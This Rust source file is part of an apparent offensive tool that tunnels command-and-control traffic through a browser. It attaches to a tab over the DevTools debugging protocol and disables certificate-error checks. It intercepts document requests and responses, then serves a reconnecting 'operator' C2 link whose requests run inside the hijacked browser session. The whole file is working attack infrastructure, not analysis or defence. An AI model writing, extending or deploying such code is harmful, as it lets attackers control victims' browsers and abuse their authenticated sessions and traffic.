//! Drives [`Lifecycle`] with real connections.
//!
//! Every action that touches the network runs in its own task and reports
//! back through a single notice queue, so the lifecycle is only ever mutated
//! from the supervisor loop. Notices carry the generation of the link they
//! belong to; anything from a link that has since been replaced is dropped.

use std::collections::VecDeque;
use std::future::Future;
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use cdptun_protocol::cdp::{
	AttachToTargetResult, GetTargetsResult, RequestPattern, RequestStage, methods,
};
use serde_json::json;
use tokio::sync::{mpsc, oneshot};
use tokio::task::{JoinHandle, JoinSet};

use crate::config::TunnelConfig;
use crate::connection::Connection;
use crate::error::{Error, Result};
use crate::executor::{BrowserExecutor, RequestExecutor};
use crate::lifecycle::{Action, C2State, Lifecycle, LifecycleEvent};
use crate::session::C2Session;
use crate::transport::TransportParts;

/// Opens the two links.
#[async_trait]
pub trait Dialer: Send + Sync + 'static {
	async fn dial_debugger(&self) -> Result<TransportParts<String>>;
	async fn dial_operator(&self) -> Result<TransportParts<Vec<u8>>>;
}

/// Disables certificate errors, finds the target titled `title` and attaches
/// to it. Returns the session id.
///
/// Only the certificate step is allowed to fail.
pub async fn attach_to_target(connection: &Connection, title: &str) -> Result<String> {
	if let Err(e) = connection
		.send_command(
			methods::SET_IGNORE_CERTIFICATE_ERRORS,
			json!({ "ignore": true }),
			None,
		)
		.await
	{
		tracing::warn!(error = %e, "could not disable certificate errors");
	}

	let targets: GetTargetsResult =
		serde_json::from_value(connection.send_command(methods::GET_TARGETS, json!({}), None).await?)?;
	let target = targets
		.target_infos
		.into_iter()
		.find(|info| info.title == title)
		.ok_or_else(|| Error::TargetNotFound(title.to_string()))?;
	tracing::debug!(target_id = %target.target_id, url = %target.url, "found target");

	let attached: AttachToTargetResult = serde_json::from_value(
		connection
			.send_command(
				methods::ATTACH_TO_TARGET,
				json!({ "targetId": target.target_id, "flatten": true }),
				None,
			)
			.await?,
	)?;
	Ok(attached.session_id)
}

/// Pauses document navigations at both the request and response stage.
pub async fn enable_interception(connection: &Connection, session_id: &str) -> Result<()> {
	let patterns = [
		RequestPattern::document(RequestStage::Request),
		RequestPattern::document(RequestStage::Response),
	];
	connection
		.send_command(
			methods::FETCH_ENABLE,
			json!({ "patterns": patterns }),
			Some(session_id),
		)
		.await?;
	Ok(())
}

async fn disable_interception(connection: Arc<Connection>, session_id: String) {
	if let Err(e) = connection
		.send_command(methods::FETCH_DISABLE, json!({}), Some(&session_id))
		.await
	{
		tracing::warn!(error = %e, "failed to disable interception");
	}
}

/// Task results, tagged with the link generation they belong to.
enum Notice {
	DebugOpened {
		generation: u64,
		connection: Arc<Connection>,
	},
	DebugAttached {
		generation: u64,
		session_id: String,
	},
	DebugSetupFailed {
		generation: u64,
	},
	DebugClosed {
		generation: u64,
	},
	DebugRetryDue,
	C2Opened {
		generation: u64,
		link: TransportParts<Vec<u8>>,
	},
	InterceptionEnabled {
		generation: u64,
	},
	InterceptionFailed {
		generation: u64,
	},
	C2Closed {
		generation: u64,
	},
	C2RetryDue {
		debug_generation: u64,
	},
}

/// Keeps the tunnel connected.
pub struct Supervisor<D: Dialer> {
	dialer: Arc<D>,
	target_title: String,
	command_timeout: Duration,
	response_timeout: Duration,
	lifecycle: Lifecycle,
	notices_tx: mpsc::UnboundedSender<Notice>,
	notices_rx: mpsc::UnboundedReceiver<Notice>,
	queued: VecDeque<LifecycleEvent>,
	tasks: JoinSet<()>,
	debug_generation: u64,
	c2_generation: u64,
	debug: Option<Arc<Connection>>,
	executor: Option<Arc<BrowserExecutor>>,
	/// Operator link opened but not yet served.
	c2_link: Option<TransportParts<Vec<u8>>>,
	/// Stops the running operator session.
	c2_stop: Option<oneshot::Sender<()>>,
	/// Pending `Fetch.disable`; the next operator dial waits for it.
	disabling: Option<JoinHandle<()>>,
}

impl<D: Dialer> Supervisor<D> {
	pub fn new(dialer: D, config: &TunnelConfig) -> Self {
		let (notices_tx, notices_rx) = mpsc::unbounded_channel();
		Self {
			dialer: Arc::new(dialer),
			target_title: config.target_title.clone(),
			command_timeout: config.command_timeout(),
			response_timeout: config.response_timeout(),
			lifecycle: Lifecycle::new(config.reconnect_delay()),
			notices_tx,
			notices_rx,
			queued: VecDeque::new(),
			tasks: JoinSet::new(),
			debug_generation: 0,
			c2_generation: 0,
			debug: None,
			executor: None,
			c2_link: None,
			c2_stop: None,
			disabling: None,
		}
	}

	pub fn lifecycle(&self) -> &Lifecycle {
		&self.lifecycle
	}

	/// Runs forever.
	pub async fn run(self) {
		self.run_until(std::future::pending()).await
	}

	/// Runs until `shutdown` resolves, then closes both links.
	pub async fn run_until<F>(mut self, shutdown: F)
	where
		F: Future<Output = ()>,
	{
		tokio::pin!(shutdown);
		self.apply(LifecycleEvent::Start);

		loop {
			let notice = tokio::select! {
				_ = &mut shutdown => None,
				notice = self.notices_rx.recv() => notice,
			};
			let Some(notice) = notice else {
				break;
			};

			if let Some(event) = self.accept(notice) {
				self.apply(event);
			}
			while self.tasks.try_join_next().is_some() {}
		}

		self.shutdown().await;
	}

	async fn shutdown(mut self) {
		tracing::info!("shutting down tunnel");
		if let Some(stop) = self.c2_stop.take() {
			let _ = stop.send(());
		}
		self.c2_link = None;

		if self.lifecycle.is_ready() {
			if let (Some(connection), Some(session_id)) =
				(self.debug.clone(), self.lifecycle.session_id())
			{
				disable_interception(connection, session_id.to_string()).await;
			}
		}
		if let Some(connection) = self.debug.take() {
			connection.close();
		}
		self.tasks.shutdown().await;
	}

	fn apply(&mut self, event: LifecycleEvent) {
		self.queued.push_back(event);
		while let Some(event) = self.queued.pop_front() {
			let actions = self.lifecycle.handle(event.clone());
			tracing::debug!(?event, ?actions, "lifecycle");
			for action in actions {
				self.perform(action);
			}
		}
	}

	/// Records resources carried by a notice and maps it to a lifecycle event.
	/// Stale notices map to nothing.
	fn accept(&mut self, notice: Notice) -> Option<LifecycleEvent> {
		let debug_current = |generation: u64, current: u64| {
			if generation != current {
				tracing::debug!(generation, current, "stale debugger notice");
			}
			generation == current
		};

		match notice {
			Notice::DebugOpened {
				generation,
				connection,
			} => {
				if !debug_current(generation, self.debug_generation) {
					connection.close();
					return None;
				}
				tracing::info!("connected to debugger");
				self.debug = Some(connection);
				Some(LifecycleEvent::DebugConnected)
			}
			Notice::DebugAttached {
				generation,
				session_id,
			} => {
				if !debug_current(generation, self.debug_generation) {
					return None;
				}
				let connection = self.debug.clone()?;
				tracing::info!(session = %session_id, "attached to target");
				self.executor = Some(Arc::new(
					BrowserExecutor::new(connection, session_id.clone())
						.with_response_timeout(self.response_timeout),
				));
				Some(LifecycleEvent::DebugAttached { session_id })
			}
			Notice::DebugSetupFailed { generation } => {
				debug_current(generation, self.debug_generation)
					.then_some(LifecycleEvent::DebugSetupFailed)
			}
			Notice::DebugClosed { generation } => {
				if !debug_current(generation, self.debug_generation) {
					return None;
				}
				tracing::warn!("disconnected from debugger");
				self.debug = None;
				self.executor = None;
				Some(LifecycleEvent::DebugClosed)
			}
			Notice::DebugRetryDue => Some(LifecycleEvent::DebugRetryDue),
			Notice::C2Opened { generation, link } => {
				if generation != self.c2_generation {
					tracing::debug!(generation, "stale operator link dropped");
					return None;
				}
				tracing::info!("connected to operator");
				self.c2_link = Some(link);
				Some(LifecycleEvent::C2Connected)
			}
			Notice::InterceptionEnabled { generation } => {
				(generation == self.c2_generation).then_some(LifecycleEvent::InterceptionEnabled)
			}
			Notice::InterceptionFailed { generation } => {
				(generation == self.c2_generation).then_some(LifecycleEvent::InterceptionFailed)
			}
			Notice::C2Closed { generation } => {
				if generation != self.c2_generation {
					return None;
				}
				tracing::info!("disconnected from operator");
				self.c2_link = None;
				self.c2_stop = None;
				Some(LifecycleEvent::C2Closed)
			}
			Notice::C2RetryDue { debug_generation } => {
				(debug_generation == self.debug_generation).then_some(LifecycleEvent::C2RetryDue)
			}
		}
	}

	fn attached(&self) -> Option<(Arc<Connection>, String)> {
		let connection = self.debug.clone()?;
		let session_id = self.lifecycle.session_id()?.to_string();
		Some((connection, session_id))
	}

	fn perform(&mut self, action: Action) {
		let notices = self.notices_tx.clone();

		match action {
			Action::ConnectDebug => {
				self.debug_generation += 1;
				let generation = self.debug_generation;
				let dialer = Arc::clone(&self.dialer);
				let timeout = self.command_timeout;
				self.tasks.spawn(async move {
					tracing::info!("connecting to debugger");
					let parts = match dialer.dial_debugger().await {
						Ok(parts) => parts,
						Err(e) => {
							tracing::warn!(error = %e, "debugger connection failed");
							let _ = notices.send(Notice::DebugClosed { generation });
							return;
						}
					};
					let connection = Arc::new(Connection::with_timeout(parts, timeout));
					let _ = notices.send(Notice::DebugOpened {
						generation,
						connection: Arc::clone(&connection),
					});
					connection.run().await;
					let _ = notices.send(Notice::DebugClosed { generation });
				});
			}
			Action::SetupDebug => {
				let Some(connection) = self.debug.clone() else {
					return;
				};
				let generation = self.debug_generation;
				let title = self.target_title.clone();
				self.tasks.spawn(async move {
					let notice = match attach_to_target(&connection, &title).await {
						Ok(session_id) => Notice::DebugAttached {
							generation,
							session_id,
						},
						Err(e) => {
							tracing::error!(error = %e, "debugger setup failed");
							Notice::DebugSetupFailed { generation }
						}
					};
					let _ = notices.send(notice);
				});
			}
			Action::CloseDebug => {
				if let Some(connection) = &self.debug {
					connection.close();
				}
			}
			Action::ConnectC2 => {
				self.c2_generation += 1;
				let generation = self.c2_generation;
				let dialer = Arc::clone(&self.dialer);
				self.tasks.spawn(async move {
					tracing::info!("connecting to operator");
					let notice = match dialer.dial_operator().await {
						Ok(link) => Notice::C2Opened { generation, link },
						Err(e) => {
							tracing::warn!(error = %e, "operator connection failed");
							Notice::C2Closed { generation }
						}
					};
					let _ = notices.send(notice);
				});
			}
			Action::EnableInterception => {
				let Some((connection, session_id)) = self.attached() else {
					return;
				};
				let generation = self.c2_generation;
				self.tasks.spawn(async move {
					let notice = match enable_interception(&connection, &session_id).await {
						Ok(()) => Notice::InterceptionEnabled { generation },
						Err(e) => {
							tracing::error!(error = %e, "failed to enable interception");
							Notice::InterceptionFailed { generation }
						}
					};
					let _ = notices.send(notice);
				});
			}
			Action::ServeC2 => {
				let (Some(link), Some(executor)) = (self.c2_link.take(), self.executor.clone()) else {
					tracing::warn!("no operator link to serve");
					return;
				};
				let generation = self.c2_generation;
				let (stop_tx, stop_rx) = oneshot::channel::<()>();
				self.c2_stop = Some(stop_tx);
				let executor: Arc<dyn RequestExecutor> = executor;
				self.tasks.spawn(async move {
					tracing::info!("tunnel ready");
					let session = C2Session::new(executor);
					session
						.serve(link, async move {
							let _ = stop_rx.await;
						})
						.await;
					let _ = notices.send(Notice::C2Closed { generation });
				});
			}
			Action::DisableInterception => {
				if let Some((connection, session_id)) = self.attached() {
					self.disabling = Some(tokio::spawn(disable_interception(connection, session_id)));
				}
			}
			Action::CloseC2 => {
				// the old link's own notices become stale
				self.c2_generation += 1;
				self.c2_link = None;
				if let Some(stop) = self.c2_stop.take() {
					let _ = stop.send(());
				}
				if *self.lifecycle.c2_state() != C2State::Disconnected {
					self.queued.push_back(LifecycleEvent::C2Closed);
				}
			}
			Action::ScheduleDebugRetry(delay) => {
				tracing::info!(delay_ms = delay.as_millis() as u64, "debugger reconnect scheduled");
				self.tasks.spawn(async move {
					tokio::time::sleep(delay).await;
					let _ = notices.send(Notice::DebugRetryDue);
				});
			}
			Action::ScheduleC2Retry(delay) => {
				tracing::info!(delay_ms = delay.as_millis() as u64, "operator reconnect scheduled");
				let debug_generation = self.debug_generation;
				let disabling = self.disabling.take();
				self.tasks.spawn(async move {
					if let Some(disabling) = disabling {
						let _ = disabling.await;
					}
					tokio::time::sleep(delay).await;
					let _ = notices.send(Notice::C2RetryDue { debug_generation });
				});
			}
		}
	}
}
